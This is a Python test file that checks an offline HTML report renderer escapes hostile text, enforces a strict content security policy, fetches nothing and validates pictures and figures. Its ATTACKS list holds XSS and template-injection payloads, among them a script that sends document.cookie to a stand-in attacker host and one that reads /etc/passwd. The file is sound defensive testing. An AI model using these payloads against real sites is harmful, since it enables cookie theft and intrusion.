"""The one-file page: opens offline, runs nothing, shows hostile text as text. And the figures on it."""

from __future__ import annotations

import xml.etree.ElementTree as ElementTree
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from journeyman.report.blocks import (
    MAX_PICTURE,
    Block,
    Diff,
    Drawings,
    Fold,
    Heading,
    Links,
    Picture,
    Section,
    Source,
    Text,
    picture,
)
from journeyman.report.draw.bars import Bar, draw_bars
from journeyman.report.figure import Curve, best_so_far, draw_best_so_far
from journeyman.report.page import Page, render
from journeyman.report.table import Table

ATTACKS = [
    "<script>fetch('http://evil.example/'+document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "</pre></code></style></title></details><h1>score 9.99</h1>",
    "{{ 7 * 7 }} {% include '/etc/passwd' %}",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "\x1b[2J\u202egnp.exe\x00",
    "]]><!--",
]

ELEMENTS = {
    "html", "head", "meta", "title", "style", "body", "header", "nav", "main", "section", "footer", "h1", "h2", "h3",
    "p", "dl", "div", "dt", "dd", "figure", "img", "figcaption", "table", "thead", "tbody", "tr", "th", "td", "pre", "code",
    "span", "ul", "li", "a", "details", "summary", "wbr", "svg", "rect", "path", "text",
}  # fmt: skip
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><rect width="9" height="9"/></svg>'


class Reader(HTMLParser):
    """Every element with its attributes, and the text outside of the style sheet."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def page_of(text: str) -> Page:
    drawn = draw_bars([Bar(text, text, (1, 2))], [(text, "s0"), (text, "s1")], x_name=text, label=text)
    blocks: list[Block] = [
        Text(text), Text(text, warning=True), Heading(text), Links([(text, text, "all")]), Source(text, label=text),
        Picture(SVG, "image/svg+xml", text, text), Diff(f"--- a\n+++ b\n+{text}\n-{text}", label=text),
        Drawings([drawn], text, [("s0", text)]),
        Table((text, "n"), [(text, text)], title=text, numbers=frozenset({"n"}), note=text),
        Fold([("id", text), ("note", text)], [Source(text)], "c1"),
    ]  # fmt: skip
    return Page(
        title=text, verdict=text, caveats=[text], subtitle=text, facts=[(text, text)], footer=text,
        sections=[Section(text, blocks, "all", text), Section(text, [], "empty")],
    )  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_hostile_text_stays_text(attack: str) -> None:
    reader = Reader()
    reader.feed(render(page_of(attack)))
    assert {tag for tag, _ in reader.elements} <= ELEMENTS
    for _, attributes in reader.elements:
        assert not [
            name for name in attributes if name.startswith("on") or name in ("style", "srcset", "xlink:href")
        ]
        source, target = attributes.get("src"), attributes.get("href")
        assert source is None or source.startswith("data:image/svg+xml;base64,")
        assert target is None or target.startswith("#")
    assert "49" not in reader.text
    assert not {"\x1b", "\u202e", "\x00"} & set(reader.text)


@given(st.text(max_size=60))
def test_any_text_gives_the_same_structure(text: str) -> None:
    def tags(body: str) -> list[str]:
        reader = Reader()
        sections = [Section(body, [Text(body)], "a")]
        reader.feed(render(Page(title=body, facts=[(body, body)], footer=body or "x", sections=sections)))
        # An underscore is followed by a place where the name may be broken.
        return [tag for tag, _ in reader.elements if tag != "wbr"]

    assert tags(text) == tags("plain")


def test_the_policy_forbids_everything_but_the_style_sheet_and_pictures() -> None:
    reader = Reader()
    reader.feed(render(page_of("x")))
    policy = next(a["content"] for tag, a in reader.elements if tag == "meta" and "http-equiv" in a)
    assert policy is not None
    assert policy.startswith("default-src 'none'; img-src data:; style-src 'sha256-")
    assert "unsafe" not in policy


def test_nothing_on_the_page_is_fetched() -> None:
    text = render(page_of("x"))
    assert "http://" not in text
    assert "https://" not in text


def test_a_huge_text_is_cut_and_says_so() -> None:
    blocks = [Diff("+" + "x" * 105, limit=100), Source("y" * 5_000_000, limit=1000)]
    text = render(Page(title="t", sections=[Section("s", blocks, "s")]))
    assert "(6 more characters)" in text
    assert "(4999000 more characters)" in text
    assert len(text) < 40_000


def test_an_anchor_is_a_plain_name() -> None:
    with pytest.raises(ValueError, match="not made of letters"):
        render(Page(title="t", sections=[Section("s", [], 'x" onclick="y')]))


@pytest.mark.parametrize("data", [
    b"", b"<html></html>", b"<svg", b"plain", b"<svg></svg>",
    b'<!DOCTYPE svg [<!ENTITY a "aaaa">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>',
    b"\x89PNG\r\n\x1a\n" + bytes(MAX_PICTURE),
])  # fmt: skip
def test_what_no_browser_shows_is_no_picture(data: bytes) -> None:
    assert picture(data, "alt") is None


def test_a_picture_is_known_by_its_content() -> None:
    found = picture(SVG, "alt")
    assert found is not None
    assert found.media_type == "image/svg+xml"
    png = draw_best_so_far([Curve("a", [0.1, 0.2])], direction="maximize", file_format="png")
    shown = picture(png, "alt")
    assert shown is not None
    assert shown.media_type == "image/png"


def test_best_so_far_skips_what_has_no_score() -> None:
    assert best_so_far([None, 2.0, 1.0, None, 3.0], "maximize") == [None, 2.0, 2.0, 2.0, 3.0]
    assert best_so_far([None, 2.0, 1.0, None, 3.0], "minimize") == [None, 2.0, 1.0, 1.0, 1.0]


def test_the_figure_is_a_picture_without_scripts() -> None:
    curves = [Curve("seed 0", [0.0, 0.2, None, 0.1, 0.4]), Curve("_$x^2$<b>", [0.0, -9e9, 0.3])]
    first = draw_best_so_far(curves, direction="maximize")
    root = ElementTree.fromstring(first)
    assert root.tag.endswith("svg")
    assert b"<script" not in first
    assert draw_best_so_far(curves, direction="maximize", file_format="png").startswith(b"\x89PNG")


def test_a_figure_of_nothing_is_refused() -> None:
    with pytest.raises(ValueError, match="no candidate has a score"):
        draw_best_so_far([Curve("a", [None, None])], direction="minimize")
